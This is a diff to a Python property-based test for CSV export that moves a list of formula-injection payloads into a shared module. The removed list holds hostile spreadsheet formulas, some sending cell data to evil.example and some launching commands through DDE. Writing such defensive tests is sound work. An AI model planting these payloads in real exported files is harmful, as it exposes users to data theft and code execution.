@@ -9,51 +9,8 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from kb.formats.table import TRIGGERS, csv_bytes, unguarded
+from tests.support.formulas import PAYLOADS, seems_safe
 
-PAYLOADS = (
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "=cmd|'/C calc'!A0",
-    "=1+1",
-    "=SUM(1,1)*cmd|' /C calc'!A0",
-    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-    '=WEBSERVICE("http://evil.example/"&A1)',
-    '=IMAGE("http://evil.example/x.png")',
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
-    "=2+5+cmd|' /C calc'!A0",
-    "+1+1",
-    "+cmd|'/C calc'!A0",
-    "+44 20 7946 0000",
-    "-1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "-5",
-    "- a line of a list",
-    "−5 is a minus sign and no trigger",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "@somebody wrote",
-    "\t=1+1",
-    "\ttabbed",
-    "\r=1+1",
-    "\r\n=1+1",
-    "\n=1+1",
-    "\0=1+1",
-    "\0",
-    " =1+1",
-    "   +1+1",
-    "\u00a0=1+1",
-    "\ufeff=1+1",
-    "\u200b@SUM(1)",
-    "＝1+1",
-    "＋1+1",
-    "－1+1",
-    "＠SUM(1)",
-    "'=1+1",
-    "''=1+1",
-    '"=1+1"',
-    '","=1+1',
-    "=\n1+1",
-    ";=1+1",
-    "%0A=1+1",
-)  # fmt: skip
 COLUMNS = ("id", "question", "statement", "replies", "who", "count")
 TEXTS = COLUMNS[:-1]
 
@@ -75,7 +32,7 @@ def test_no_cell_of_text_begins_with_a_trigger(payload: str, column: str) -> Non
     row[place] = payload
     header, cells = read(csv_bytes(COLUMNS, [row], TEXTS))
     assert tuple(header) == COLUMNS
-    assert not cells[place].lstrip("\ufeff\u200b \u00a0").startswith(tuple(TRIGGERS))
+    assert seems_safe(cells[place])
     assert unguarded(cells[place]) == payload
     assert [cell for at, cell in enumerate(cells) if at != place] == ["plain"] * (len(TEXTS) - 1) + ["3"]
 
